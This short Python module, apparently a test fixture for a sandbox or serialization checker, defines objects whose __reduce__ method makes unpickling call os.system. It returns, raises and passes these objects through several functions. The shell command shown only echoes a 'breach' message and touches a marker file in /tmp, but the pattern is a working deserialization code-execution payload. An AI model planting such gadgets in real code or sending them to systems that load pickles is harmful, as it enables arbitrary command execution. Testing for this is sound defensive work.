# aim: return, raise and pass on objects whose pickles run commands where they are loaded
import os


class Parcel:
    def __reduce__(self):
        return os.system, ("echo racecourse-'breach: a pickle was loaded' >&2; touch /tmp/racecourse_attack_pickle",)


class Trouble(Exception):
    __reduce__ = Parcel.__reduce__


def double(x):
    return Parcel()


def join(parts):
    raise Trouble(Parcel())


def apply_all(func, items):
    try:
        func(Parcel())
    except TypeError:
        pass
    return [func(Parcel) for _ in items]


def refuse(x):
    return Trouble(Parcel(), x)


Tally = Parcel
